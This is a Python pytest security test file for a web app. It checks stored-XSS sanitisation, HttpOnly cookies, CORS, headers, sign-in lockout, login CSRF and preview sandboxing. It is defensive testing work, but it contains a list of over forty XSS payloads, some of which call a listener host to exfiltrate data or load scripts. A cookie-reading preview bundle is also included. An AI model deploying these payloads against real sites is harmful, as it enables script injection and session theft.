"""Hostile tests against the real app (`vibecoder dev`) in headless Chromium.

Stored XSS payloads in every markdown-rendered field, the HttpOnly session cookie, headers
and CORS on every kind of route, /preview on the app's origin, proxy-aware sign-in lockout.
"""

from __future__ import annotations

import http.server
import threading
import time
import uuid

import httpx
import pytest
import redis
from sqlalchemy import text
from sqlalchemy.exc import OperationalError
from sqlmodel import Session

from tests.e2e.conftest import sign_in, wait_for_app
from vibecoder.domain.accounts import auth
from vibecoder.infra.embedded import free_port

# The first test here may pay for starting `vibecoder dev` (minutes on a loaded machine).
pytestmark = pytest.mark.timeout(1200)

PASSWORD = "violet-harbour-2026"
SLUG = "exif-date-renamer"  # a seeded, published listing


class _Listener(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802
        _Listener.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET  # noqa: N815

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def listener():
    port = free_port()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), _Listener)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{port}"
    server.shutdown()


def payloads(listen: str) -> list[str]:
    """OWASP XSS cheat-sheet classes; each tries to run script, frame, post or fetch."""
    js = "document.title='pwned';fetch('" + listen + "/x')"
    return [
        "<script>" + js + "</script>",
        "<SCRIPT SRC=" + listen + "/xss.js></SCRIPT>",
        '<img src=x onerror="' + js + '">',
        "<img src=" + listen + "/pixel.png>",
        '<svg onload="' + js + '"></svg>',
        "<svg><script>" + js + "</script></svg>",
        '<body onload="' + js + '">',
        "<iframe srcdoc=\"<script>parent.document.title='x'+parent.document.cookie</script>\">",
        '<iframe src="javascript:' + js + '"></iframe>',
        "<iframe src=" + listen + "/frame></iframe>",
        "<form action=" + listen + "/steal><input name=q value=1><button>go</button></form>",
        "<style>body{background:url(" + listen + "/css)}</style>",
        "<link rel=stylesheet href=" + listen + "/sheet.css>",
        "<object data=" + listen + "/obj></object>",
        "<embed src=" + listen + "/embed>",
        '<video><source onerror="' + js + '"></video>',
        '<audio src=x onerror="' + js + '">',
        '<details open ontoggle="' + js + '">',
        '<input autofocus onfocus="' + js + '">',
        '<marquee onstart="' + js + '">m</marquee>',
        '<a href="javascript:' + js + '">click</a>',
        "[md link](javascript:alert(1))",
        "[md link 2](JaVaScRiPt:alert(1))",
        "[md link 3](javascript&#58;alert(1))",
        "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![md image](" + listen + "/md-image.png)",
        '![md image onerror](x "onerror=alert(1)")',
        "[![nested](" + listen + "/nested.png)](javascript:alert(1))",
        '<a href="&#106;avascript:alert(1)">entity</a>',
        "&lt;script&gt;" + js + "&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        '<img src="x" onerror="&#97;lert(1)">',
        '<div style="background:url(javascript:alert(1))">styled</div>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<base href=" + listen + "/>",
        '<meta http-equiv=refresh content="0;url=' + listen + '/meta">',
        "<template><script>" + js + "</script></template>",
        "<isindex action=javascript:alert(1) type=image>",
        "<table background=" + listen + "/table.png><td>t</td></table>",
        '<x onclick="' + js + '">click me</x>',
        "<scr<script>ipt>" + js + "</scr</script>ipt>",
        '"><script>' + js + "</script>",
        '<svg><a xlink:href="javascript:alert(1)"><text y=20>svg link</text></a></svg>',
    ]


def _db(live_app) -> Session:
    return Session(live_app.engine)


def _user(live_app, prefix: str) -> str:
    email = f"{prefix}-{uuid.uuid4().hex[:8]}@example.com"
    with _db(live_app) as session:
        auth.register(session=session, email=email, password=PASSWORD)
        session.commit()
    return email


def _write_raw(live_app, body: str) -> None:
    """Raw SQL, past the nh3 wall on save: the renderer must hold on its own. Right after start
    the seed's embedding tasks hold row locks for a while (the model loads): wait them out."""
    statements = [
        "UPDATE listings SET description = :d WHERE slug = :s",
        "UPDATE listing_versions SET changelog = :d WHERE listing_id = "
        "(SELECT id FROM listings WHERE slug = :s)",
    ]
    deadline = time.monotonic() + 600
    for statement in statements:
        while True:
            try:
                with live_app.engine.begin() as conn:
                    conn.execute(text("SET LOCAL lock_timeout = '5s'"))
                    conn.execute(text(statement), {"d": body, "s": SLUG})
                break
            except OperationalError:
                if time.monotonic() > deadline:
                    raise


def test_stored_xss_payloads_never_run(page, live_app, listener):
    corpus = payloads(listener)
    assert len(corpus) >= 40
    body = "\n\n".join(f"Payload {i}: {p}" for i, p in enumerate(corpus))
    _write_raw(live_app, body)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    _Listener.hits.clear()
    # The dev server compiles a route on its first visit: slow on a loaded machine.
    page.goto(f"{live_app.frontend_url}/listing/{SLUG}", timeout=180_000)
    wait_for_app(page)
    try:
        page.get_by_text("Payload 0:").first.wait_for(timeout=60_000)
    except Exception:
        page.screenshot(path="/tmp/security-xss.png", full_page=True)
        raise
    title = page.title()
    injected = """() => [...document.querySelectorAll('.user-markdown')].flatMap(root =>
        ['script','iframe','form','style','object','embed','link','base','meta','svg','img',
         'video','audio','details','input','marquee','math','template','table','x']
          .filter(tag => root.querySelector(tag)))"""
    inside = page.evaluate(injected)
    markdown_boxes = page.locator(".user-markdown").count()
    hrefs = page.evaluate(
        "() => [...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))"
    )
    # The "Versions" tab renders the changelog markdown too.
    page.get_by_role("tab", name="Versions").click()
    page.wait_for_timeout(1500)
    inside += page.evaluate(injected)
    assert markdown_boxes >= 1 and page.locator(".user-markdown").count() >= 1
    assert dialogs == []
    assert "pwned" not in title and "pwned" not in page.title()
    assert inside == [], f"elements from user text in the page: {inside}"
    assert not any(h.strip().lower().startswith(("javascript:", "data:")) for h in hrefs)
    assert _Listener.hits == [], f"requests to the listener: {_Listener.hits}"
    # Every payload's paragraph is there: the content rendered, only as text.
    page.get_by_role("tab", name="Overview").click()
    assert page.get_by_text(f"Payload {len(corpus) - 1}:").count() >= 1


def test_nh3_strips_html_on_save(live_app):
    from sqlmodel import select

    from vibecoder.models.catalog import Listing

    with _db(live_app) as session:
        listing = session.exec(select(Listing).where(Listing.slug == SLUG)).one()
        listing.description = "ok <iframe srcdoc='<script>x</script>'></iframe> `<b>code</b>`"
        session.add(listing)
        session.commit()
        session.refresh(listing)
        assert listing.description == "ok  `<b>code</b>`"


def test_session_cookie_is_httponly_and_never_reaches_js_or_redis(page, live_app):
    email = _user(live_app, "cookie")
    page.set_default_timeout(120_000)  # first visits compile routes in the dev server
    try:
        sign_in(page, live_app, email, PASSWORD, "/account")
    except Exception:
        page.screenshot(path="/tmp/security-signin.png", full_page=True)
        raise
    cookies = {c["name"]: c for c in page.context.cookies()}
    session_cookie = cookies[auth.SESSION_COOKIE]
    assert session_cookie["httpOnly"] is True
    assert session_cookie["sameSite"] == "Lax"
    assert session_cookie["secure"] is False  # served over http here; https sets Secure
    assert session_cookie["expires"] > 0  # a lifetime from settings, not a browser session
    assert auth.SESSION_COOKIE not in page.evaluate("document.cookie")
    page.locator("#account-email").wait_for()
    # Neither the raw token nor anything containing it is in Redis (Reflex's state included).
    token = session_cookie["value"]
    client = redis.Redis.from_url(live_app.redis_url)
    for key in client.scan_iter(count=500):
        kind = client.type(key)
        if kind == b"string":
            values = [client.get(key) or b""]
        elif kind == b"hash":
            values = list(client.hgetall(key).values())
        else:
            continue
        assert all(token.encode() not in v for v in values), key
    # Sign-out clears the cookie (a server response) and kills the session.
    page.click("#account-menu")
    page.click("#sign-out")
    page.wait_for_url(live_app.frontend_url + "/")
    assert auth.SESSION_COOKIE not in {c["name"] for c in page.context.cookies()}
    api = httpx.get(
        f"{live_app.backend_url}/api/exports/sales.csv", cookies={auth.SESSION_COOKIE: token}
    )
    assert api.status_code in (401, 403, 404)


def test_headers_cors_and_control_characters_on_api_routes(live_app):
    app_origin = live_app.frontend_url
    base = live_app.backend_url
    for path in ("/api/health", "/api/search?q=timer", "/api/covers/" + "0" * 64, "/ping"):
        # Generous timeout: the first search loads the embedding model.
        response = httpx.get(base + path, headers={"Origin": "https://evil.example"}, timeout=120)
        assert response.headers["x-content-type-options"] == "nosniff", path
        assert "frame-ancestors 'none'" in response.headers["content-security-policy"], path
        assert response.headers["referrer-policy"], path
        assert "access-control-allow-origin" not in response.headers, path
    ok = httpx.get(base + "/api/health", headers={"Origin": app_origin})
    assert ok.headers["access-control-allow-origin"] == app_origin
    preflight = httpx.options(
        base + "/api/search",
        headers={"Origin": "https://evil.example", "Access-Control-Request-Method": "GET"},
    )
    assert preflight.headers.get("access-control-allow-origin") != "https://evil.example"
    nul = httpx.get(base + "/api/search", params={"q": "abc\x00def"}, timeout=60)
    assert nul.status_code == 400 and nul.json()["error"] == "invalid_characters"
    # A preview path on the app's (API) origin does not exist.
    assert httpx.get(base.replace("127.0.0.1", "localhost") + "/preview/x/1/").status_code == 404


def _post_signin(live_app, email: str, password: str, client_address: str) -> httpx.Response:
    return httpx.post(
        live_app.backend_url + "/api/auth/signin",
        data={"email": email, "password": password, "next": "/account"},
        headers={"Origin": live_app.frontend_url, "X-Forwarded-For": client_address},
        follow_redirects=False,
        timeout=60,
    )


def test_strangers_cannot_lock_a_user_out_and_logins_are_csrf_checked(live_app):
    email = _user(live_app, "lockout")
    for _ in range(8):
        failed = _post_signin(live_app, email, "wrong-password-123", "203.0.113.50")
        assert failed.status_code == 303 and "flash=" in failed.headers["location"]
        assert auth.SESSION_COOKIE not in failed.cookies
    # The stranger's address is locked for this account now, even with the right password...
    locked = _post_signin(live_app, email, PASSWORD, "203.0.113.50")
    flash = auth.read_flash(httpx.URL(locked.headers["location"]).params["flash"])
    assert "Too many" in flash["error"]
    # ...while the owner, from their own address, signs in.
    owner = _post_signin(live_app, email, PASSWORD, "198.51.100.20")
    assert owner.status_code == 303 and owner.headers["location"].endswith("/account")
    set_cookie = owner.headers["set-cookie"]
    assert "HttpOnly" in set_cookie and "SameSite=lax" in set_cookie.replace("Lax", "lax")
    # A sign-in posted from another site is refused (login CSRF).
    forged = httpx.post(
        live_app.backend_url + "/api/auth/signin",
        data={"email": email, "password": PASSWORD},
        headers={"Origin": "https://evil.example"},
        follow_redirects=False,
    )
    assert forged.status_code == 403 and "set-cookie" not in forged.headers
    nul = _post_signin(live_app, email + "\x00", PASSWORD, "198.51.100.20")
    assert nul.status_code == 400


def test_preview_opened_directly_cannot_read_cookies_or_make_requests(page, live_app, listener):
    from vibecoder.builder.service.preview import sign_preview
    from vibecoder.builder.service.projects import create_project, create_version
    from vibecoder.models.users import User

    email = _user(live_app, "preview")
    bundle = (
        "document.getElementById('root').innerHTML = '<h1>generated</h1>';"
        "var c; try { c = document.cookie; } catch (e) { c = 'blocked:' + e.name; }"
        "document.body.dataset.cookie = c;"
        f"fetch('{listener}/preview-fetch').then(() => document.body.dataset.fetch = 'allowed',"
        " () => document.body.dataset.fetch = 'blocked');"
        f"new Image().src = '{listener}/preview-img';"
    )
    from sqlmodel import select

    from tests.fakes.commerce import configured
    from vibecoder.infra import storage

    # The bundle goes into the live app's blob store (its data directory), not this process's.
    with configured(VIBECODER_DATA_DIR=str(live_app.data_dir)), _db(live_app) as session:
        storage.get_blob_store.cache_clear()
        try:
            owner = session.exec(select(User).where(User.email == email)).one()
            project = create_project(
                session=session, owner_id=owner.id, name="P", provider="scripted"
            )
            create_version(
                session=session,
                project_id=project.id,
                files={"src/App.jsx": "export default function App() { return null; }\n"},
                bundle_js=bundle,
                css="h1 { color: red; }",
                message="v1",
                provider="scripted",
                model="scripted-demo",
            )
            session.commit()
        finally:
            storage.get_blob_store.cache_clear()
        token = sign_preview(public_id=project.public_id, number=1, user_id=owner.id)
        # The app's preview origin in development: its backend on 127.0.0.1 (not localhost).
        link = f"{live_app.backend_url}/preview/{project.public_id}/1/?t={token}"
    # The visitor is signed in to the app (an HttpOnly cookie for localhost)...
    page.set_default_timeout(120_000)
    sign_in(page, live_app, email, PASSWORD, "/account")
    _Listener.hits.clear()
    # ...and opens the preview link directly, outside the builder's sandboxed iframe.
    assert "127.0.0.1" in link and "localhost" not in link  # another site than the app
    response = page.goto(link)
    assert "sandbox allow-scripts" in response.headers["content-security-policy"]
    page.locator("h1").wait_for()
    page.wait_for_timeout(1000)
    assert page.evaluate("document.body.dataset.cookie").startswith("blocked:")
    assert page.evaluate("document.body.dataset.fetch") == "blocked"
    assert _Listener.hits == []
    # The same path on the app's host (where the visitor's session cookie goes) does not exist.
    assert page.goto(link.replace("127.0.0.1", "localhost")).status == 404
